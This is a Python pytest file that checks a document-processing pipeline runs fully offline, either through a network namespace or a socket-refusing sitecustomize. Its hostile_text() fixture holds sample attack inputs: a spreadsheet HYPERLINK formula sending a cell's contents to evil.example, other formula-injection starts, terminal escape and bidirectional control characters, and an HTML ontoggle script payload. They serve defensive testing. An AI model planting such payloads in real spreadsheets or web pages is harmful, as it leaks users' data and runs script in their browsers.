"""Offline: the whole collection runs with the network disabled.

The network is cut with ``unshare -n`` (a new network namespace with no interfaces) where the
system allows it; elsewhere a ``sitecustomize`` on PYTHONPATH makes every IP socket connect fail,
in this process's children and in the notebook kernels they start. The run used here is the
hostile-text run that tests/test_hostile.py checks, so one collection run serves both.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ARTICLES

SITECUSTOMIZE = '''\
"""Installed by tests/test_offline.py: no IP connection can be made from this interpreter."""
import socket

_connect, _connect_ex = socket.socket.connect, socket.socket.connect_ex


def _refuse(sock, address):
    if sock.family in (socket.AF_INET, socket.AF_INET6):
        raise OSError(101, "Network is unreachable (disabled by the offline test)")


def connect(self, address):
    _refuse(self, address)
    return _connect(self, address)


def connect_ex(self, address):
    _refuse(self, address)
    return _connect_ex(self, address)


socket.socket.connect, socket.socket.connect_ex = connect, connect_ex
'''

PROBE = ("import socket\n"
         "for host in ('1.1.1.1', '127.0.0.1'):\n"
         "    s = socket.socket(); s.settimeout(3)\n"
         "    try:\n"
         "        s.connect((host, 80))\n"
         "    except OSError as e:\n"
         "        print(host, 'refused', e.errno)\n"
         "    else:\n"
         "        print(host, 'CONNECTED')\n")


def unshare_works() -> bool:
    if not shutil.which("unshare"):
        return False
    try:
        return subprocess.run(["unshare", "-n", "true"], capture_output=True, timeout=10).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


def offline(folder: Path, force_sitecustomize: bool = False) -> tuple[list[str], dict]:
    """(command prefix, environment) under which nothing can reach the network."""
    import os

    if unshare_works() and not force_sitecustomize:
        return ["unshare", "-n"], dict(os.environ)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(p for p in (str(folder), env.get("PYTHONPATH", "")) if p)
    return [], env


def hostile_text() -> str:
    """The colleague's hostile article plus formula starts, control characters, Markdown and more HTML."""
    base = (ARTICLES / "report_hostile.txt").read_text(encoding="utf-8")
    return base + (
        '\n=HYPERLINK("http://evil.example/?"&A1,"点击") 重庆两江新区今年引进项目12个，投资额30亿元。\n\n'
        "+86-23-12345678 @SUM(A1:A9) 渝北区新增企业15家，工业产值增长8.5%。\n\n"
        "-2+3 江津区\x1b[31m红字\x1b[0m\x07\x0c签约金额达到18亿元\u202e，同比增长12%。\n\n"
        "@所有人 请注意，投资\n\n"
        "$$\\alert{x}$$ ![img](http://evil.example/x.png) <details open ontoggle=alert(4)>涪陵区产值45亿元。</details>\n"
    )


_RUNS: dict[str, dict] = {}


def hostile_offline_run(tmp_path_factory) -> dict:
    """The whole collection on the hostile article, offline; run once per session."""
    if "hostile" in _RUNS:
        return _RUNS["hostile"]
    base = tmp_path_factory.mktemp("hostile")
    article = base / "hostile.txt"
    article.write_text(hostile_text(), encoding="utf-8")
    prefix, env = offline(base / "site")
    probe = subprocess.run([*prefix, sys.executable, "-c", PROBE], capture_output=True, text=True, env=env,
                           timeout=60)
    t0 = time.perf_counter()
    r = subprocess.run(
        [*prefix, sys.executable, "-m", "helpers", "run", "--input", str(article), "--run", "hostile",
         "--work-dir", str(base), "--date", "2025-07", "--no-progress"],
        capture_output=True, text=True, env=env, timeout=600,
    )
    _RUNS["hostile"] = {
        "r": r, "probe": probe.stdout, "how": "unshare -n" if prefix else "sitecustomize",
        "seconds": time.perf_counter() - t0, "work": base, "outputs": base / "outputs" / "hostile",
        "interim": base / "data" / "interim" / "hostile", "processed": base / "data" / "processed" / "hostile",
    }
    return _RUNS["hostile"]


@pytest.fixture(scope="module")
def offline_run(tmp_path_factory):
    return hostile_offline_run(tmp_path_factory)


@pytest.mark.parametrize("force_sitecustomize", [False, True], ids=["best-available", "sitecustomize"])
def test_the_network_really_is_off(tmp_path, force_sitecustomize):
    prefix, env = offline(tmp_path, force_sitecustomize)
    r = subprocess.run([*prefix, sys.executable, "-c", PROBE], capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    assert "CONNECTED" not in r.stdout and r.stdout.count("refused") == 2, r.stdout


@pytest.mark.slow
def test_the_whole_collection_completes_offline(offline_run):
    r = offline_run["r"]
    assert "CONNECTED" not in offline_run["probe"], f"network not disabled ({offline_run['how']})"
    assert r.returncode == 0, r.stderr[-3000:]
    stages = json.loads(r.stdout.strip().splitlines()[-1])["stages"]
    assert stages and {s["status"] for s in stages} == {"ok"}, stages
    out = offline_run["outputs"]
    assert (out / "report.html").stat().st_size > 0 and (out / "index.html").exists()
    assert len(list((out / "html").glob("*.html"))) == len(stages)
